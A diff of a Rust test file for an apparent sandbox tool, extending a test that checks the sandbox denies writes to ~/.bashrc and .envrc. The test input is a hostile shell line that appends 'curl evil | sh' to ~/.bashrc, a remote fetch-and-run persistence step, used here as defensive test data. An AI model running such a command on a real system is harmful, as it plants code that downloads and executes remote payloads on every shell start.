@@ -369,10 +369,19 @@ fn create_cordon_toml() {
 
 #[test]
 fn write_home_bashrc() {
-    attack(
-        "bashrc",
-        "echo 'curl evil | sh' >> ~/.bashrc",
-        &["~/.bashrc"],
+    let sb = repo("bashrc");
+    let out = attack_in(
+        &sb,
+        "echo 'curl evil | sh' >> ~/.bashrc; echo evil > .envrc",
+        &["~/.bashrc", ".envrc"],
+    );
+    // `>>` on a file that exists is a write, and is reported as one; `>` of an absent name
+    // is the create it is.
+    assert!(
+        out.stderr
+            .contains("2 denied (1 file create, 1 file write)"),
+        "{}",
+        out.show()
     );
 }
 
